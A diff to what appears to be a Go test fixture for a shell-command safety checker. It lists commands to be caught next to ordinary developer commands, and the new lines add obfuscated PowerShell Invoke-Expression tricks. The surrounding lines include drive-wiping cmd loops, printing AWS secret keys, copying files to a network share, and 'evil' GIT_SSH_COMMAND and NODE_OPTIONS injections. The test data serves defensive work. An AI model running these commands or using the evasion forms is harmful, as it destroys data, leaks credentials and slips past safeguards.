@@ -33,6 +33,8 @@ var triedOnTheDrive = map[string][]string{
 		`Expand-Archive a.zip -DestinationPath ..\x`, `Move-Item src ..\`, `Copy-Item -Recurse . \\host\share`, `robocopy . C:\x /mir`, `Get-ChildItem Env:`, `gci env:*`,
 		`[Environment]::GetEnvironmentVariables()`, `Write-Host $env:AWS_SECRET_ACCESS_KEY`, `$env:GIT_SSH_COMMAND = 'sh -c evil'; git fetch`,
 		`$env:Node_Options = '--require ../evil.js'; npm test`,
+		`&(gcm i?x) 'x'`, `& (Get-Alias i*x) 'x'`, `. (gv x).Value`, `.('i'+'ex') 'x'`, `(gcm i?x).Invoke('x')`, `[powershell]::Create().AddScript('x').Invoke()`,
+		`Set-Alias z (gcm i?x); z 'x'`, `Set-Alias z iex; z $x`, `& (Resolve-Path C:\x\a.exe)`,
 	},
 	"cmd": {
 		`del ..\*.*`, `for /f %i in ('dir /b C:\') do rd /s /q C:\%i`, `for /r C:\ %f in (*) do del %f`, `forfiles /p C:\ /c "cmd /c del @file"`, `if 1==1 (rd /s /q C:\)`, `(rd /s /q C:\)`,
@@ -54,6 +56,8 @@ var typedOnTheDrive = map[string][]string{
 		`Get-ChildItem *.txt | Rename-Item -NewName { $_.Name -replace 'a','b' }`, `Get-ChildItem -Filter *.tmp | Remove-Item`, `Remove-Item *.log`,
 		`if (!(Test-Path build)) { mkdir build }`, `New-Item -Path . -Name x.txt -ItemType File`, `$files = Get-ChildItem; foreach ($f in $files) { Write-Output $f.FullName }`,
 		`git add . ; git commit -m "x"`, `git diff HEAD~1 -- src\a.cs`, `git checkout -b feature/x`, `docker build -t x .`, `kubectl get pods`, `pip install -r requirements.txt`,
+		`& (Get-Command npm) test`, `& (Join-Path $PSScriptRoot 'build.ps1')`, `. (Join-Path (Split-Path $PSCommandPath) 'lib.ps1')`, `& (Resolve-Path .\build.ps1)`,
+		`Set-Alias ll Get-ChildItem`,
 		`.venv\Scripts\python.exe -m pytest`, `& .venv\Scripts\Activate.ps1`, `py -3 x.py`, `cmake -S . -B build; cmake --build build`, `msbuild /t:Rebuild`, `nmake`, `cl /nologo a.c`,
 		`Measure-Command { npm test }`, `Start-Sleep 5`, `Get-Process | Sort-Object CPU -Descending | Select-Object -First 5`, `Get-NetTCPConnection -LocalPort 3000`,
 		`Test-NetConnection localhost -Port 3000`, `Invoke-WebRequest http://localhost:3000/health`, `Resolve-Path .`, `Split-Path $PWD -Leaf`, `Join-Path $PWD dist`, `$PWD.Path`,
